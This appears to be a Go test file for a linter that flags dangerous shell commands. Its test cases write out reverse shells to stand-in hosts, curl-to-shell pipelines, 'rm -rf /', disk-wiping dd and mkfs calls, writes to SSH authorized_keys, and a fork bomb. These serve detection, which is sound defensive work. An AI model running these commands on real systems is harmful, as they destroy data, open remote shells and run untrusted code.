package command_test

import (
	"strings"
	"testing"

	"github.com/mendkit/mend/command"
	"github.com/stretchr/testify/assert"
)

// classes holds paths of each class of operands; those that end in an asterisk
// are patterns.
var classes = map[string]string{
	"root":        "/ // /. /./ /etc/.. /../ /* /.*",
	"home":        "~ ~/ ~/. ~root $HOME ${HOME} $HOME/ ~/* ~/.* /root /root/ /home/x /home/x/ /home/x/* /Users/x /home/* /home/x*",
	"cwd":         ". ./ .. ../ ../.. ../../.. a/.. $PWD ${PWD} $PWD/* * .* ./* ../* ./.*",
	"install":     "{install_dir} {install_dir}/ {install_dir}/bin {install_dir}/* {install_dir}/lib/x",
	"device":      "/dev/sda /dev/sda1 /dev/hdb /dev/vdc2 /dev/xvda1 /dev/sdaa /dev/nvme0n1 /dev/nvme0n1p2 /dev/mmcblk0p1 /dev/disk2 /dev/disk2s1 /dev/rdisk3 /dev/dm-0 /dev/md127 /dev/nbd0 /dev/loop7 /dev/zram0 /dev/sr0 /dev/mapper/x /dev/disk/by-id/x /dev/sd* /dev/sda* /dev/nvme*",
	"system":      "~/.. ~/../x /etc /usr /usr/local /bin /sbin /lib /lib64 /lib32 /boot /dev /proc /sys /run /var /var/lib /home /opt /srv /mnt /media /Users /System /Library /Applications /private /Volumes /tmp /var/tmp /private/tmp /dev/shm /etc/ /usr/* /usr/local/* /opt/.* /e* /[u]sr /v?r /var/l*",
	"system file": "/etc/passwd /etc/x/y /bin/sh /sbin/x /lib/x /lib64/x /boot/x /proc/1/x /sys/x /usr/bin/x /usr/share/x /usr/localx /System/x /private/etc/x /etc/x* /usr/*/x /e*/passwd",
	"ordinary":    "a ./a a/b a/* ../a ../../a a.b ... /a /a/b /tmp/a /tmp/a/* /var/log /var/log/x /var/tmp/a /opt/x /srv/x /usr/local/x /usr/local/bin/x /home/x/a ~/a ~/a/* /root/a /Users/x/y /etcx /dev/null /dev/stderr /dev/tty /dev/random /dev/sd /dev/sdx/y /dev/loop-control /dev/shm/a /Library/x /Applications/x.app /var/lib/x {version} {install_dirs} '~' '~/x' '*a' x~ a[bc] *.o src/*.c '-' ''",
}

// inShell returns a line of bash that runs text, in which nothing but the text
// needs a shell.
func inShell(text string) string { return "bash -c " + command.Join([]string{text}) }

func TestLintOperandClasses(t *testing.T) {
	// What each class means for commands that do four different things to it.
	for class, wants := range map[string][4]string{
		"root":        {"delete", "", "permissions", "permissions"},
		"home":        {"delete", "", "permissions", "permissions"},
		"cwd":         {"delete", "", "", ""},
		"install":     {"delete", "", "permissions", ""},
		"device":      {"delete", "disk", "permissions", "permissions"},
		"system":      {"delete", "", "permissions", "permissions"},
		"system file": {"delete", "system-file", "permissions", "permissions"},
		"ordinary":    {"", "", "", ""},
	} {
		for path := range strings.FieldsSeq(classes[class]) {
			for i, program := range []string{"rm -f", "tee", "chmod -R 750", "chmod o+w"} {
				line := inShell(program + " " + path)
				want := wants[i]
				if path == "''" || path == "'-'" {
					want = ""
				}
				assert.Equal(t, strings.Fields(strings.TrimSuffix("DangerousCommand/"+want, "DangerousCommand/")), append([]string{}, said(line, gnu)...), "%s: %q", class, line)
			}
		}
	}
}

func TestLintUnknownOperands(t *testing.T) {
	for path := range strings.FieldsSeq("$X $X/a a/$X /etc/$X \"$X\" $(pwd) `pwd` ${X:-/} $1 $@ {a,b} /{etc,usr} ~- $((1)) <(a)") {
		for program, want := range map[string]string{
			"rm": "OpaqueCommand/operand", "unlink": "OpaqueCommand/operand", "srm -r": "OpaqueCommand/operand", "shred": "OpaqueCommand/operand", "mkfs.ext4": "OpaqueCommand/operand", "wipefs -a": "OpaqueCommand/operand",
			"chmod -R 755": "OpaqueCommand/operand", "chown -R a": "OpaqueCommand/operand", "rsync --delete a": "OpaqueCommand/operand", "find -H": "", "mv a": "", "mv": "", "ls": "", "chmod 777": "", "tee": "", "cp a": "",
		} {
			got := strings.Join(said(inShell(program+" "+path+" b"), gnu), " ")
			if program == "rsync --delete a" {
				got = strings.Join(said(inShell(program+" "+path), gnu), " ")
			}
			if path == "/etc/$X" && (program == "tee" || program == "cp a") {
				want = ""
				got = strings.ReplaceAll(got, "DangerousCommand/system-file", "")
			}
			assert.Equal(t, want, got, "%s %s", program, path)
		}
	}
	assert.Equal(t, []string{"OpaqueCommand/operand"}, said(inShell("find $X -delete"), gnu))
	assert.Equal(t, []string{"OpaqueCommand/operand"}, said(inShell(`find $X -name a -exec rm {} \;`), gnu))
	assert.Equal(t, []string{"OpaqueCommand/operand"}, said(inShell("dd of=$X"), gnu))
	assert.Empty(t, said(inShell("dd if=$X of=a"), gnu))
	assert.Empty(t, said(inShell("rm -$X a"), gnu), "options that nobody knows are no operand")
}

func TestLintDelete(t *testing.T) {
	const is = "DangerousCommand/delete"
	checkCases(t, []lintCase{
		{"rm", "rm /etc", is},
		{"rm of something else", "rm x -rf", ""},
		{"the end of options", "rm -- -rf /", is},
		{"unlink", "unlink /etc/passwd", is},
		{"unlink of something else", "unlink x", ""},
		{"srm", "srm -r ..", is},
		{"shred", "shred -n 3 -u /etc/shadow", is},
		{"shred of something else", "shred -n 3 -u x", ""},
		{"rmdir of what is empty", "rmdir /opt", ""},
		{"mv of one", "mv /etc x", is},
		{"mv of several", "mv x /usr/bin/y z", is + " "},
		{"mv with a target", "mv -t x /etc/passwd", is},
		{"mv of something else", "mv x y", ""},
		{"mv to nowhere", "mv x /dev/null", is},
		{"mv of what nobody knows", "sh -c 'mv $X y'", ""},
		{"rsync that deletes", "rsync -a --delete x/ /opt", is},
		{"rsync that deletes, another way", "rsync -a --delete-excluded x/ .", is},
		{"rsync that deletes, short", "rsync -a --del x/ /", is},
		{"rsync that deletes elsewhere", "rsync -a --delete x/ y/", ""},
		{"rsync that would", "rsync -an --delete x/ /etc", ""},
		{"rsync that does not", "rsync -a x/ /opt", ""},
		{"find", "find /etc -delete", is},
		{"find everywhere", "find -delete", is},
		{"find here", "find . -delete", is},
		{"find here, with what is no test", "find . -type f -maxdepth 2 -mindepth 1 -delete", is},
		{"find here, with a test", "find . -name x -delete", ""},
		{"find here, with a test behind it", "find . -delete -name x", is},
		{"find elsewhere, with a test", "find / -name x -delete", is},
		{"find in another place", "find build -delete", ""},
		{"find in several", "find build /usr -delete", is},
		{"find does not look at arguments", "find build -name -delete", ""},
		{"find that starts rm", `find / -exec rm {} \;`, is},
		{"find that starts rm for many", "find . -type d -execdir rm -r {} +", is},
		{"find that asks", `find ~ -ok unlink {} \;`, "NeedsShell/tilde " + is},
		{"find here that starts rm, with a test", `find . -name '*.o' -exec rm {} \;`, ""},
		{"find that starts rm for another", `find / -name x -exec rm y \;`, ""},
		{"find that starts rm below", `find /usr -exec rm {}/x \;`, is},
		{"find that starts sh", `find / -name x -exec sh -c 'rm "$1"' s {} \;`, "OpaqueCommand/operand"},
		{"find with what stands for it in a script", `find / -exec sh -c 'rm {}' \;`, is},
		{"find with what stands for it nobody knows", `sh -c 'find $X -exec rm {}/y \;'`, "OpaqueCommand/operand"},
		{"find with what stands for it at home", `sh -c 'find ~ -exec tee {}/.bashrc \;'`, "DangerousCommand/system-file"},
		{"find's own options before it", "find -D tree -L -O3 /etc -delete", is},
		{"find that starts nothing", "find a -exec", ""},
		{"find without an end", "find a -exec rm /", is},
		{"find that starts too many", "find a " + strings.Repeat(`-exec ls {} \; `, 70), "OpaqueCommand/depth"},
		{"find in a find", `find a -exec find / -delete \; -name x`, is},
		{"find that starts two", `find a -exec ls {} \; -exec rm / \;`, is},
	})
}

func TestLintDisk(t *testing.T) {
	const is = "DangerousCommand/disk"
	checkCases(t, []lintCase{
		{"dd", "dd if=x of=/dev/sda", is},
		{"dd from one", "dd if=/dev/sda of=x", ""},
		{"dd of a file", "dd if=/dev/zero of=x.img bs=1M", ""},
		{"a redirection", "sh -c 'cat x > /dev/sdb'", is},
		{"a redirection to another device", "sh -c 'ls > /dev/null 2>/dev/stderr'", ""},
		{"tee", "tee /dev/nvme0n1", is},
		{"cp", "cp x.iso /dev/sdb", is},
		{"cp from one", "cp /dev/sr0 x.iso", ""},
		{"mkfs", "mkfs -t ext4 /dev/sda1", is},
		{"mkfs of a kind", "mkfs.xfs -L x /dev/sda1", is},
		{"mkfs of a file", "mkfs.xfs -L x x.img", ""},
		{"newfs", "newfs_msdos /dev/disk2", is},
		{"mke2fs", "mke2fs /dev/md0", is},
		{"mkswap", "mkswap -L /dev/sda x", ""},
		{"mkswap of one", "mkswap /dev/sda2", is},
		{"fdisk", "fdisk /dev/sda", is},
		{"fdisk that lists", "fdisk -l /dev/sda", ""},
		{"cfdisk", "cfdisk /dev/sda", is},
		{"sfdisk that dumps", "sfdisk -d /dev/sda", ""},
		{"sfdisk that lists", "sfdisk --list /dev/sda", ""},
		{"sfdisk that does nothing", "sfdisk --no-act /dev/sda", ""},
		{"gdisk", "gdisk /dev/sda", is},
		{"sgdisk that prints", "sgdisk -p /dev/sda", ""},
		{"sgdisk that deletes", "sgdisk -d 1 /dev/sda", is},
		{"parted", "parted /dev/sda rm 1", is},
		{"parted that lists", "parted -l /dev/sda", ""},
		{"parted that prints", "parted -s /dev/sda unit s print", ""},
		{"parted of a file", "parted x.img mklabel gpt", ""},
		{"blkdiscard", "blkdiscard -l 4096 /dev/sda", is},
		{"badblocks", "badblocks -w /dev/sda", is},
		{"badblocks of a file", "badblocks -w x", ""},
		{"wipefs", "wipefs -a /dev/sda", is},
		{"wipefs at an offset", "wipefs -o 0x1 /dev/sda", is},
		{"wipefs that lists", "wipefs /dev/sda", ""},
		{"wipefs that does nothing", "wipefs --all --no-act /dev/sda", ""},
		{"hdparm", "hdparm --user-master u --security-erase p /dev/sda", is},
		{"hdparm that asks", "hdparm -I /dev/sda", ""},
		{"shred", "shred /dev/sda", is + " DangerousCommand/delete"},
		{"cryptsetup", "cryptsetup luksFormat /dev/sda2", is},
		{"cryptsetup that asks", "cryptsetup luksDump /dev/sda2", ""},
		{"nvme", "nvme format /dev/nvme0n1", is},
		{"nvme that lists", "nvme list /dev/nvme0n1", ""},
	})
}

func TestLintSystemFile(t *testing.T) {
	const is = "DangerousCommand/system-file"
	for op := range strings.FieldsSeq("> >> >| &> &>> <> >& 2> 1>>") {
		assert.Equal(t, []string{is}, said(inShell("ls "+op+" /etc/x"), gnu), "%s", op)
		assert.Equal(t, []string{is}, said(inShell("ls "+op+"/etc/x"), gnu), "%s", op)
		assert.Equal(t, []string{is}, said(inShell("{ ls; } "+op+" /etc/x"), gnu), "%s", op)
		assert.Equal(t, []string{is}, said(inShell(op+" /etc/x"), gnu), "%s", op)
		assert.Empty(t, said(inShell("ls "+op+" x"), gnu), "%s", op)
	}
	checkCases(t, []lintCase{
		{"reading", "sh -c 'wc < /etc/passwd'", ""},
		{"a stream", "sh -c 'ls 2>&1 >&-'", ""},
		{"cp", "cp x /etc/passwd", is},
		{"cp of several", "cp x y /etc", is},
		{"cp to a target", "cp -t /usr/bin x", is},
		{"cp to a target, long", "cp --target-directory=/usr/bin x", is},
		{"cp from one", "cp /etc/passwd x", ""},
		{"cp of one word", "cp /etc/passwd", ""},
		{"ln", "ln -s x /etc/y", is},
		{"ln to one", "ln -s /etc/y x", ""},
		{"install", "install -m 755 x /usr/bin", is},
		{"install of a directory", "install -d /etc/x", is},
		{"install elsewhere", "install -m 755 x /usr/local/bin/x", ""},
		{"mv", "mv x /boot/x", is},
		{"rsync", "rsync -a x /lib/x", is},
		{"tee", "tee -a x /etc/hosts", is},
		{"truncate", "truncate -s 0 /etc/hosts", is},
		{"truncate like one", "truncate -r /etc/hosts x", ""},
		{"sponge", "sponge /etc/hosts", is},
		{"dd", "dd of=/etc/x", is},
		{"sed", "sed -i s/a/b/ /etc/hosts", is},
		{"sed with a suffix", "sed -i.bak s/a/b/ /etc/hosts", is},
		{"sed in a cluster", "sed -ni p /etc/hosts", is},
		{"sed with options", "sed -i -e s/a/b/ -e s/c/d/ /etc/hosts", is},
		{"sed, long", "sed --in-place=.bak s/a/b/ /etc/hosts", is},
		{"sed that prints", "sed s/a/b/ /etc/hosts", ""},
		{"sed's script is no file", "sed -i '/etc/d' x", ""},
		{"curl", "curl -o /etc/x http://y", is},
		{"curl in a cluster", "curl -fsSLo /etc/x http://y", is},
		{"curl elsewhere", "curl -o x http://y/etc/z", ""},
		{"wget", "wget -O /etc/x http://y", is},
		{"wget elsewhere", "wget -O x http://y", ""},
		{"find", "find . -fprint /etc/x", is},
		{"find with a format", "find . -fprintf /etc/x %p", is},
		{"find elsewhere", "find /etc -fprint x", ""},
		{"awk in place", "awk -i inplace '{print}' /etc/x", is},
		{"awk in place, elsewhere", "awk -i inplace '{print}' x", ""},
		{"the headers of curl", "curl -D /etc/x http://y", is},
		{"the log of wget", "wget -o /etc/x http://y", is},
		{"awk", "awk '{print >> \"/etc/x\"}' y", is},
		{"of an unknown target the beginning", "sh -c 'ls > /etc/$X'", is},
		{"an unknown target", "sh -c 'ls > $X'", ""},
		{"an unknown target beside a system's", "sh -c 'ls > /etc$X'", ""},
	})
	for path := range strings.FieldsSeq("~/.bashrc ~/.profile ~/.zshrc ~/.bash_profile $HOME/.zshenv /root/.bashrc /home/x/.profile /Users/x/.zprofile ~/.ssh/authorized_keys ~/.ssh/$X ~/.ssh/a/b /root/.ssh/config ~/.config/autostart/x.desktop ~/.config/fish/config.fish ~/./.bashrc") {
		assert.Equal(t, []string{is}, said(inShell("tee "+path), gnu), "%s", path)
	}
	for path := range strings.FieldsSeq("~/x ~/.bashrc.d/x ~/a/.bashrc ~/.config/x .bashrc x/.ssh/y ~/.sshx /home/.bashrc '~/.bashrc' /srv/x/.bashrc") {
		assert.Empty(t, said(inShell("tee "+path), gnu), "%s", path)
	}
}

func TestLintPermissions(t *testing.T) {
	const is = "DangerousCommand/permissions"
	for mode := range strings.FieldsSeq("777 0777 1777 666 002 4755 2755 6000 o+w a+w o=rw a=rwx ugo+w go+w u+s g+s +s u+xs a+rw,o-x u=rwx,o=w") {
		assert.Equal(t, []string{is}, said("chmod "+mode+" /etc", gnu), "%s", mode)
		assert.Empty(t, said("chmod "+mode+" x", gnu), "%s", mode)
	}
	for mode := range strings.FieldsSeq("755 0755 700 644 1755 u+w g+w o-w a-w o+r a+x +x -w -x u-s g=rw o= u+rwx,o-w --reference=x") {
		assert.Empty(t, said("chmod "+mode+" /etc", gnu), "%s", mode)
		assert.Equal(t, []string{is}, said("chmod -R "+mode+" /etc", gnu), "%s", mode)
	}
	checkCases(t, []lintCase{
		{"recursive behind it", "chmod 700 /etc -R", is},
		{"recursive, long", "chmod --recursive 700 /etc", is},
		{"here", "chmod -R 777 .", ""},
		{"elsewhere", "chmod -R 777 build", ""},
		{"chown", "chown -R a:b /usr", is},
		{"chown of one", "chown a /usr", ""},
		{"chown like one", "chown -R --reference=x /usr", is},
		{"chown here", "chown -R a .", ""},
		{"chown in a cluster", "chown -hR a /usr", is},
		{"chgrp", "chgrp -R a /home/x", is},
		{"the owner is no operand", "chown -R / x", ""},
	})
}

func TestLintRemoteExec(t *testing.T) {
	const is, shell = "DangerousCommand/remote-exec", "NeedsShell/operator "
	for get := range strings.FieldsSeq("curl:-fsSL:u wget:-qO-:u fetch:-o:-:u aria2c:u http:u https:GET:u /usr/bin/curl:u sudo:curl:u timeout:5:curl:u") {
		get = strings.ReplaceAll(get, ":", " ")
		for run := range strings.FieldsSeq("sh bash:-s:--:-y zsh dash:- sudo:sh sudo:-E:bash:- env:A=b:sh python3 python3:- perl ruby node php nohup:sh bash:/dev/stdin busybox:sh exec:sh command:sh") {
			line := get + " | " + strings.ReplaceAll(run, ":", " ")
			assert.Contains(t, said(line, gnu), is, "%q", line)
		}
	}
	checkCases(t, []lintCase{
		{"between them another program", "curl u | gunzip | sh", shell + is},
		{"both streams", "curl u |& sh", shell + is},
		{"in brackets", "(curl u) | (sh)", shell + is},
		{"in braces", "{ curl u; } | { sh; }", "NeedsShell/reserved-word " + is},
		{"a loop", "curl u | while read l; do sh; done", shell + "NeedsShell/builtin " + is},
		{"a function", "f() { sh; }; curl u | f", shell + "OpaqueCommand/interactive " + is},
		{"a redirection", "sh < <(curl u)", shell + is},
		{"a stream for a file", "sh <(curl u)", shell + is},
		{"a stream for a file of another language", "python3 <(curl u)", shell + is},
		{"text", "sh -c \"$(curl u)\"", "NeedsShell/substitution " + is},
		{"text in backticks", "sh -c `curl u`", "NeedsShell/substitution " + is},
		{"a text behind a redirection", "sh <<< \"$(curl u)\"", shell + is},
		{"eval", "eval \"$(curl u)\"", "NeedsShell/builtin NeedsShell/substitution " + is},
		{"eval of several words", "eval set -- $(curl u)", "NeedsShell/builtin NeedsShell/substitution " + is},
		{"source", "source <(curl u)", "NeedsShell/builtin " + shell + is},
		{"to a stream", "curl u > >(sh)", shell + is},
		{"to a stream of tee", "curl u | tee >(sh)", shell + is},
		{"a file", "curl -o x u; sh x", shell + is},
		{"a file by its other name", "curl -o x u; sh ./x", shell + is},
		{"a file that runs", "curl -o x u; ./x", shell + is},
		{"a file of another language", "curl -o x u; python3 x", shell + is},
		{"a file that is sourced", "curl -o x u; . ./x", "NeedsShell/builtin " + shell + is},
		{"a file for the input", "curl -o x u; sh < x", shell + is},
		{"a file for the input of another language", "curl -o x u; perl < x", shell + is},
		{"a file behind launchers", "curl -o x u; sudo nice ./x", shell + is},
		{"a file by its address", "curl -O http://h/y/x.sh; bash x.sh", shell + is},
		{"a file by its address, long", "curl --remote-name http://h/x.sh; bash x.sh", shell + is},
		{"a file by its address, with a question", "wget 'http://h/x.sh?a=b'; bash x.sh", shell + is},
		{"a file of wget", "wget -O x http://h/y; sh x", shell + is},
		{"a file in a directory", "wget -P /tmp/d http://h/y; sh /tmp/d/y", shell + is},
		{"a file that is redirected", "curl u > x; sh x", shell + is},
		{"a file behind a pipe", "curl u | gunzip > x; sh x", shell + is},
		{"a file of tee", "curl u | tee x; sh x", shell + is},
		{"in nested text", "sh -c 'curl u | sh'", is},

		{"nothing is run", "curl u | tar xz", shell},
		{"an interpreter with code", "curl u | python3 -c 'print(1)'", shell},
		{"an interpreter with a module", "curl u | python3 -m json.tool", shell},
		{"an interpreter with a file", "curl u | node x.js", shell},
		{"perl with code", "curl u | perl -ne 'print'", shell},
		{"a shell with a file", "curl u | sh x.sh", shell + "OpaqueCommand/script-file"},
		{"a shell with text", "curl u | sh -c 'wc -l'", shell},
		{"another file", "curl -o x u; sh y", shell + "OpaqueCommand/script-file"},
		{"a file that is only looked at", "curl -o x u; cat x", shell},
		{"a shell before it", "sh -c ls | curl u", shell},
		{"a shell in another pipeline", "curl u | wc; sh x", shell + "OpaqueCommand/script-file"},
		{"without a pipe", "curl -o x u", ""},
		{"a substitution that does not download", "sh -c \"$(cat x)\"", "NeedsShell/substitution OpaqueCommand/script"},
		{"a stream that does not download", "sh <(cat x)", shell + "OpaqueCommand/script"},
		{"a question", "curl u | sh --version", shell},
	})
}

func TestLintPipeToShell(t *testing.T) {
	const is, shell = "DangerousCommand/pipe-to-shell", "NeedsShell/operator "
	checkCases(t, []lintCase{
		{"a shell", "cat x | sh", shell + is},
		{"a shell with options", "cat x | bash -e", shell + is},
		{"a shell with a dash", "cat x | bash -", shell + is},
		{"a shell with arguments", "cat x | sh -s a b", shell + is},
		{"behind launchers", "cat x | sudo -u a env B=c sh", shell + is},
		{"another language", "cat x | python3", shell + is},
		{"another language with a dash", "cat x | perl - a", shell + is},
		{"echo of what nobody knows", "echo $X | sh", "NeedsShell/expansion " + is},
		{"behind two pipes", "echo ls | rev | sh", shell + is},
		{"its input by name", "cat x | bash /dev/stdin", shell + is},
		{"a shell with a file", "cat x | sh y.sh", shell + "OpaqueCommand/script-file"},
		{"a shell with text", "cat x | sh -c 'wc'", shell},
		{"another language with code", "cat x | ruby -e 'p 1'", shell},
		{"no shell", "cat x | shuf", shell},
		{"echo of plain words", "echo ls -l | sh", shell},
		{"echo of words that are fatal", "echo rm -rf / | sh", shell + "DangerousCommand/delete"},
		{"printf", "printf 'rm -rf /\\n' | sh", shell + "DangerousCommand/delete"},
		{"echo of code", "echo 'print(1)' | python3", shell},
		{"echo of code that is no good", "echo 'import subprocess' | python3", shell + "OpaqueCommand/inline-code"},
		{"a here-document", "sh <<E\nls\nrm -rf /\nE", shell + "DangerousCommand/delete"},
		{"a plain here-document", "sh <<E\nls\nE", shell},
		{"a here-document of cat", "cat <<E | sh\nrm -rf /\nE", shell + "DangerousCommand/delete"},
		{"echo with an option", "echo -e 'rm -rf /' | sh", shell + "DangerousCommand/delete"},
		{"a here-string of cat", "cat <<< 'rm -rf /' | sh", shell + "DangerousCommand/delete"},
		{"printf that fills in", "printf '%s /' 'rm -rf' | sh", shell + is},
		{"a here-string", "sh <<< 'rm -rf /'", shell + "DangerousCommand/delete"},
		{"a here-string that nobody knows", "sh <<< $X", shell + "OpaqueCommand/script"},
		{"a file", "sh < x.sh", shell + "OpaqueCommand/script-file"},
		{"a file of another language", "python3 < x.py", shell},
		{"a file for another stream", "sh 3< x.sh", shell + "OpaqueCommand/interactive"},
	})
}

func TestLintReverseShell(t *testing.T) {
	const is, shell = "DangerousCommand/reverse-shell", "NeedsShell/operator "
	checkCases(t, []lintCase{
		{"tcp", "bash -i >& /dev/tcp/h/1 0>&1", shell + is},
		{"udp", "sh -i < /dev/udp/h/1", shell + is},
		{"by a launcher", "nohup bash > /dev/tcp/h/1", shell + is},
		{"an address nobody knows", "bash > /dev/tcp/$H/$P", shell + is},
		{"a stream opened before", "exec 9<>/dev/tcp/h/1; sh <&9 >&9", "NeedsShell/builtin " + shell + is},
		{"the shell's own streams", "exec > /dev/tcp/h/1; sh", "NeedsShell/builtin " + shell + "OpaqueCommand/interactive"},
		{"no shell", "cat < /dev/tcp/h/1", shell},
		{"nobody", "sh -c '</dev/tcp/h/1'", ""},
		{"a stream opened and not used", "sh -c 'exec 3<>/dev/tcp/h/1'", ""},
		{"nc -e", "nc -e /bin/sh h 1", is},
		{"nc -e, glued", "nc -e/bin/sh h 1", is},
		{"nc -c", "nc -c 'sh -i' h 1", is},
		{"nc -c of no shell", "nc -c h 1", ""},
		{"nc", "nc -z h 1", ""},
		{"ncat", "ncat --exec ./x h 1", is},
		{"ncat --sh-exec", "ncat --sh-exec=./x h 1", is},
		{"netcat", "netcat -e ./x h 1", is},
		{"a value that looks so", "nc -p -e h 1", ""},
		{"socat", "socat TCP:h:1 EXEC:sh", is},
		{"socat in small letters", "socat exec:./x tcp:h:1", is},
		{"socat SYSTEM", "socat TCP-LISTEN:1 SYSTEM:x", is},
		{"socat of two addresses", "socat TCP-LISTEN:1 TCP:h:2", ""},
		{"code", `perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,6); exec("/bin/sh -i");'`, "OpaqueCommand/inline-code " + is},
		{"code that only connects", `python3 -c 'import socket; socket.create_connection(("h",1))'`, ""},
		{"a shell that is sent away by another program", "sh -i 2>&1 < f | openssl s_client -connect h:1", shell + is},
		{"a shell that waits and is sent away", "sh -i | telnet h 1", shell + is},
		{"a shell that is sent elsewhere", "sh -i | openssl dgst", shell + "OpaqueCommand/interactive"},
		{"a shell that is sent away", "sh -i 2>&1 < f | nc h 1", shell + is},
	})
}

func TestLintForkBomb(t *testing.T) {
	const is, shell = "DangerousCommand/fork-bomb", "NeedsShell/operator "
	checkCases(t, []lintCase{
		{"the short one", ":(){ :|:& };:", shell + is},
		{"with a pipe", "f() { f | f; }; f", shell + is},
		{"in the background", "f() { f & }", shell + is},
		{"in brackets", "f() (f | f)", shell + is},
		{"deeper", "f() { if true; then f & fi; }", shell + is},
		{"the other way to write it", "function f { f|f; }", "NeedsShell/reserved-word " + is},
		{"it only calls itself", "f() { f; }", shell},
		{"it only has a pipe", "f() { ls | wc; }; f", shell},
		{"it calls another", "f() { g | g; }", shell},
	})
}
